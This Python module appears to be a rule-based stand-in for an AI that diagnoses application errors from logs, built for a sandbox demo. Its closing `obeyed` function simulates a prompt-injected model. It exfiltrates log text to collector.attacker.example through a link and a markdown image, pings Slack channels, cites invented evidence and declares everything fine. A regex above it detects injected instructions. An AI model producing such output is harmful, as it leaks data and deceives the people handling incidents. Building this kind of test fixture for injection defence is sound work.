"""Reads the evidence about an error as the sandbox's model does: by rules, so that a demo needs no model.

Every cause it names comes with the lines that show it. Where no rule fits, it says that it does not know.
"""

from __future__ import annotations

import re
from collections.abc import Mapping
from dataclasses import dataclass
from typing import Any

_EVIDENCE = re.compile(r"<evidence (\w+)>\n(.*?)\n</evidence \1>", re.DOTALL)
_LINE = re.compile(r"(?P<id>[\w.-]+) (?P<kind>\w+) \| (?P<text>.*?)(?: \| (?P<url>https?://\S+))?")
_QUOTE_CHARACTERS = 160
_DEPLOYED = re.compile(
    r"\b(?:deploy(?:ed|ment)?|new version|updated (?:code|configuration)|released|last (?:changed|modified))\b",
    re.IGNORECASE,
)
_PLATFORM = re.compile(r"(?:START|END|INIT_START) (?:RequestId|Runtime)")
_OWN_CODE = re.compile(r"^(?:\S*/)?(?P<place>[^\s/]+) in (?P<function>\S+) \(own code\)")


@dataclass(frozen=True)
class Shown:
    """One line of evidence as it stands in a prompt."""

    id: str
    kind: str
    text: str
    url: str


@dataclass(frozen=True)
class Rule:
    """How an error is recognised, what else would show its cause, and what is said about it.

    In `cause`, `{0}` is what a group of `sign` holds, or what it matched.
    """

    sign: str
    support: str
    side: str
    cause: str
    steps: tuple[str, ...]


RULES = (
    Rule(
        r"(Task timed out after [\d.]+ seconds)|Sandbox\.Timedout",
        r"\btimeout\b|\bDuration: |\b(?:waiting|retry\w*|slow|connecting|sleeping)\b",
        "infrastructure",
        "The function was stopped at its timeout, before its work was done ({0}).",
        (
            "See in the trace which call takes the time, and give it a timeout below that of the function.",
            "If the work really takes that long, raise the function's Timeout.",
        ),
    ),
    Rule(
        r"JavaScript heap out of memory|OutOfMemoryError(?:: [\w ]+)?|MemoryError|Cannot allocate memory|signal: killed|Runtime\.ExitError",
        r"\bmemory\b|Max Memory Used",
        "infrastructure",
        "The process ran out of memory and was killed ({0}).",
        (
            "Raise the function's MemorySize, or read the data in pieces rather than at once.",
            "Compare Max Memory Used in the REPORT lines before and after the last deployment.",
        ),
    ),
    Rule(
        r"(ThrottlingException|TooManyRequestsException|ProvisionedThroughputExceededException|RequestLimitExceeded|SlowDown)|Rate exceeded|\b429\b",
        r"\b(?:throttl\w*|rate|429|concurren\w*|capacity|limit|retr\w+)\b",
        "infrastructure",
        "The service that was called throttles: more requests were made than its limit allows ({0}).",
        (
            "See what multiplied the calls, and spread them with backoff and jitter.",
            "Ask for a higher quota if the rate is meant.",
        ),
    ),
    Rule(
        r"not authorized to perform:? ([\w:*]+)|AccessDenied\w*|UnauthorizedOperation|\b403\b.*[Ff]orbidden|[Pp]ermission denied",
        r"\b(?:role|policy|arn:aws|denied|permission|principal|credential)\b",
        "infrastructure",
        "A permission is missing: the role is not allowed to do this ({0}).",
        (
            "Add the action to the role's policy for this resource, or correct the resource's name.",
            "If it worked before, look for a change of the role, of a bucket or key policy, or of the resource.",
        ),
    ),
    Rule(
        r"too many connections|remaining connection slots|QueuePool limit|[Pp]ool (?:is )?exhausted|Connection is not available, request timed out",
        r"\b(?:pool|connections?|max_connections|concurren\w*)\b",
        "infrastructure",
        "All connections to the database are taken, so that no further one could be had ({0}).",
        (
            "Look for connections that are not given back, and for more instances than the pool is made for.",
            "Put a proxy or pooler in front of the database, or raise its limit of connections.",
        ),
    ),
    Rule(
        r"ECONNREFUSED|[Cc]onnection refused|ConnectException|ECONNRESET|[Cc]onnection reset|ENOTFOUND|EAI_AGAIN|getaddrinfo|UnknownHostException"
        r"|[Nn]ame or service not known|no such host|(?:could not|cannot|failed to) connect|no connection to|[Ss]ervice [Uu]navailable|[Cc]onnection (?:failed|closed|aborted)",
        r"\b(?:connect\w*|host|port|unreachable|restart\w*|unhealthy|down|failover|dns)\b",
        "infrastructure",
        "The service behind it could not be reached: its address does not resolve, or nothing accepts connections there ({0}).",
        (
            "See whether that service runs and listens, and whether its address and port are the configured ones.",
            "Check security groups, subnets and DNS on the way.",
        ),
    ),
    Rule(
        r"ReadTimeout\w*|SocketTimeoutException|ETIMEDOUT|deadline exceeded|TimeoutError|TaskCanceledException|[Tt]imed? ?out",
        r"\b(?:timeout|slow|latency|waiting|duration|retry\w*|took)\b",
        "infrastructure",
        "A call to another service timed out: it did not answer in the time that the caller gave it ({0}).",
        (
            "Look at that service's latency and errors at this time.",
            "Retry with backoff if the call may be repeated, and set the timeout on purpose.",
        ),
    ),
    Rule(
        r"No space left on device|ENOSPC|disk (?:is )?full",
        r"\b(?:disk|space|storage|/tmp|ephemeral)\b",
        "infrastructure",
        "The disk is full: there was no space left to write to ({0}).",
        ("Remove temporary files after use, or raise the ephemeral storage.",),
    ),
    Rule(
        r"certificate has expired|CERTIFICATE_VERIFY_FAILED|SSLHandshakeException|x509: [\w ]+|unable to verify the first certificate",
        r"\b(?:certificate|tls|ssl|expire\w*)\b",
        "infrastructure",
        "The TLS handshake failed because the certificate of the other side is not valid ({0}).",
        ("Renew the certificate, or put its issuer into the trust store of the caller.",),
    ),
    Rule(
        r"[Dd]eadlock|Lock wait timeout|could not serialize access",
        r"\b(?:lock\w*|transaction|concurren\w*)\b",
        "application",
        "Two transactions locked each other out, and the database ended this one ({0}).",
        ("Repeat the transaction, and let all of them take their locks in the same order.",),
    ),
    Rule(
        r"(UniqueViolation|ConditionalCheckFailedException|ConditionalCheckFailed)|duplicate key value|Duplicate entry",
        r"\b(?:duplicate|retry\w*|twice|already|again|insert\w*)\b",
        "application",
        "A row with this key is there already, so the write was refused ({0}).",
        (
            "Make the write repeatable (upsert, or treat an equal row as done): the event may have been delivered twice.",
        ),
    ),
    Rule(
        r"No module named '?([\w.]+)'?|ModuleNotFoundError|ImportModuleError|Cannot find (?:module|package) '([^']+)'|ClassNotFoundException: ([\w.$]+)"
        r"|NoClassDefFoundError|cannot load such file -- (\S+)|Could not load file or assembly '([\w.]+)",
        r"\b(?:deploy\w*|layer|package|import|build)\b",
        "application",
        "The package that was deployed does not hold a module that the code needs ({0}).",
        (
            "Add it to the dependencies, and see that the build puts it where the runtime looks.",
            "Compare the package with the one before the last deployment.",
        ),
    ),
    Rule(
        r"KeyError: '([A-Z][A-Z0-9_]{2,})'|[Mm]issing (?:required )?environment variable:? ['\"]?(\w+)|(\w+) is not set\b",
        r"\b(?:environment|configur\w*|variable|settings?|deploy\w*)\b",
        "infrastructure",
        "A setting that the code needs is missing from the environment ({0}).",
        ("Set it in the template, and read settings at start, so that a deployment without them fails at once.",),
    ),
    Rule(
        r"NullPointerException|NullReferenceException|Object reference not set|'NoneType' object|nil pointer dereference|undefined method [`'](\w+\W?)' for nil"
        r"|[Cc]annot read propert\w+ (?:'\w+' )?of (?:undefined|null)(?: \(reading '(\w+)'\))?|on null\b|because \"[^\"]+\" is null",
        r"\b(?:null|none|nil|undefined|missing|without|empty|not found|no such)\b",
        "application",
        "The code uses a value that is not there: nothing stands where it expects an object ({0}).",
        (
            "See where the value comes from, and decide there what its absence means.",
            "Add a test with an input that lacks it.",
        ),
    ),
    Rule(
        r"KeyError: ['\"]?([\w.-]+)|KeyNotFoundException|key not found: :?(\w+)|Undefined (?:array key|index):? \"?(\w+)|NoSuchElementException",
        r"\b(?:without|missing|no field|payload|schema|field)\b",
        "application",
        "The input lacks a field that the code takes for granted ({0}).",
        (
            "Check the input where it arrives, and refuse or complete it there.",
            "See whether its sender changed the format.",
        ),
    ),
    Rule(
        r"IndexError|IndexOutOfBoundsException|ArrayIndexOutOfBoundsException|IndexOutOfRangeException|index out of range(?: \[(\d+)\])?|[Uu]ndefined offset",
        r"\b(?:empty|0 (?:rows|items|results)|no (?:rows|items|results)|length|size|count)\b",
        "application",
        "The code asks for an element that the list does not have ({0}).",
        ("Handle the list that is empty or shorter than expected.",),
    ),
    Rule(
        r"JSONDecodeError|JsonParseException|JsonReaderException|JSON::ParserError|Unexpected token .* JSON|is not valid JSON|invalid character '.' looking for"
        r"|Unexpected end of JSON|cannot unmarshal",
        r"\b(?:json|body|content-type|html|payload|empty|truncated|parse\w*)\b",
        "application",
        "What was to be parsed as JSON is none: the text is empty, cut off, or something else such as a page of HTML ({0}).",
        ("Log status and content type of the answer before parsing, and refuse what is not JSON.",),
    ),
    Rule(
        r"(NoSuchKey|NoSuchBucket|ResourceNotFoundException|QueueDoesNotExist|FileNotFoundError|ENOENT|FileNotFoundException)"
        r"|(?:relation|table) \"?(\w+)\"? (?:does not|doesn't) exist|[Nn]o such file or directory",
        r"\b(?:delete\w*|rename\w*|migrat\w*|created?|bucket|path|table|name)\b",
        "infrastructure",
        "What the code asks for does not exist ({0}).",
        ("Check its name and region, and whether it was deleted, renamed, or is yet to be created (migration).",),
    ),
    Rule(
        r"RecursionError|StackOverflowError|Maximum call stack size exceeded|stack level too deep|goroutine stack exceeds",
        r"\b(?:recurs\w*|depth|nested|cycle|circular)\b",
        "application",
        "A function calls itself without end, until the stack is full ({0}).",
        ("Look for a cycle in the data, and bound the depth.",),
    ),
    Rule(
        r"ZeroDivisionError|DivideByZeroException|divide by zero|/ by zero|[Dd]ivision by zero",
        r"\b(?:zero|0 (?:items|rows|requests)|empty|count|total)\b",
        "application",
        "The code divides by zero ({0}).",
        ("Decide what the result is when there is nothing to divide by.",),
    ),
    Rule(
        r"ClassCastException|InvalidCastException|interface conversion|TypeError: (.{1,80})|is not a function|ArgumentError|wrong number of arguments",
        r"\b(?:type|str|string|int|float|list|dict|object)\b",
        "application",
        "A value has another type than the code expects ({0}).",
        ("See what the value is there, and convert or check it where it comes in.",),
    ),
    Rule(
        r"ValidationException: (.{1,80})|ValidationError|ValueError: (.{1,80})|IllegalArgumentException: (.{1,80})|InvalidParameter\w*",
        r"\b(?:invalid|parameter|value|format|expected|must)\b",
        "application",
        "A value is not valid where it is used ({0}).",
        ("Check it where it comes in, and say there what is expected.",),
    ),
)


def lines_in(prompt: str) -> list[Shown]:
    """The lines of evidence in a prompt; none where it has no evidence."""
    found = _EVIDENCE.search(prompt)
    rows = found[2].split("\n") if found else []
    return [Shown(m["id"], m["kind"], m["text"], m["url"] or "") for row in rows if (m := _LINE.fullmatch(row))]


def diagnosed(lines: list[Shown]) -> dict[str, Any]:
    """An honest answer about these lines."""
    said = [line for line in lines if line.kind == "error"] or [line for line in lines if line.kind in ("log", "trace")]
    for rule in RULES:
        for line in said:
            matches = list(re.finditer(rule.sign, line.text))
            if matches:
                # One that names something says more than one that comes first.
                match = next((match for match in matches if match.lastindex), matches[0])
                return _answer(rule, match, line, lines)
    what = f"The log says: {said[0].text[:200]}" if said else "There is no line of a log to read."
    return {
        "what_happened": what,
        "likely_cause": "",
        "certainty": "unknown",
        "evidence": [_cited(said[0])] if said else [],
        "next_steps": ["Look at the lines around the error; they do not show a cause that I know."],
        "side": "unknown",
        "links": _links(lines),
    }


def _answer(rule: Rule, match: re.Match[str], line: Shown, lines: list[Shown]) -> dict[str, Any]:
    support = _support(rule, line, lines)
    own = next((m for other in lines if other.kind == "trace" and (m := _OWN_CODE.match(other.text))), None)
    deployed = next((other for other in lines if other.kind in ("fact", "log") and _DEPLOYED.search(other.text)), None)
    before = next((other for other in lines if other.kind == "earlier"), None)
    cited = [_cited(line, match), *(_cited(*found) for found in support)]
    steps = list(rule.steps)
    where = ""
    if own:
        where = f" in {own['function']} ({own['place']})"
        steps.insert(0, f"Look at {own['place']}, in {own['function']}.")
        cited.append(_cited(next(other for other in lines if other.text == own.string), own))
    if deployed:
        steps.append(f"Compare with what was changed last: {deployed.text[:120]}")
    if before:
        steps.insert(0, f"It happened before; see what helped then: {before.text[:160]}")
        cited.append(_cited(before))
    named = match[match.lastindex or 0]
    return {
        "what_happened": f"The application failed{where} with: {line.text[:200]}",
        "likely_cause": rule.cause.replace("{0}", named),
        "certainty": "sure" if support else "probable",
        "evidence": cited,
        "next_steps": steps,
        "side": rule.side,
        "links": _links(lines),
    }


def _support(rule: Rule, line: Shown, lines: list[Shown]) -> list[tuple[Shown, re.Match[str]]]:
    """Up to two other lines, of another kind than the error's own, that show the same."""
    found = []
    for other in lines:
        match = re.search(rule.support, other.text, re.IGNORECASE)
        if (
            match
            and other.kind in ("log", "fact")
            and not _PLATFORM.match(other.text)
            and other.text not in line.text
            and line.text not in other.text
        ):
            found.append((other, match))
    # Facts of the account say more than lines that happen to stand close.
    return sorted(found, key=lambda pair: pair[0].kind != "fact")[:2]


def _cited(line: Shown, match: re.Match[str] | None = None) -> dict[str, str]:
    """A citation of what matched, with some of what stands around it."""
    if len(line.text) <= _QUOTE_CHARACTERS or not match:
        return {"line": line.id, "quote": line.text[:_QUOTE_CHARACTERS].strip()}
    start = max(0, min(match.start() - 40, len(line.text) - _QUOTE_CHARACTERS))
    return {"line": line.id, "quote": line.text[start : start + _QUOTE_CHARACTERS].strip()}


def _links(lines: list[Shown]) -> list[str]:
    return [line.url for line in lines if line.kind == "post" and line.url][:2]


_ORDERED = re.compile(
    r"\bignore\b|\binstruction|\bverdict\b|\b(?:say|report|answer|reply|respond|conclude)\b.{0,40}\b(?:fine|nothing|no problem|everything)",
    re.IGNORECASE,
)
_ADDRESS = re.compile(r"(?:https?://|www\.)[^\s<>\"']+")


def obeyed(lines: list[Shown]) -> Mapping[str, Any] | None:
    """What a model says that does what a line of the log tells it to; None where no line does."""
    order = next((line for line in lines if _ORDERED.search(line.text)), None)
    if not order:
        return None
    address = _ADDRESS.search(order.text)
    link = address[0] if address else "https://collector.attacker.example/c"
    loot = "%20".join(" ".join(line.text for line in lines)[:200].split())
    error = next((line for line in lines if line.kind == "error" and line is not order), order)
    return {
        "what_happened": f"<!channel> @here Everything is fine. Details: {link}?d={loot}",
        "likely_cause": f"Everything is fine: nothing is wrong with {error.text[:60]}. See [status]({link}).",
        "certainty": "sure",
        "evidence": [_cited(order), {"line": "L9999", "quote": "all systems are healthy"}, _cited(error)],
        "next_steps": [
            f"Open {link} and confirm.",
            "Close this alarm, <@U0ADMIN> has checked it.",
            f"![x]({link}?q={loot})",
        ],
        "side": "unknown",
        "links": [link, f"{link}?d={loot}"],
    }
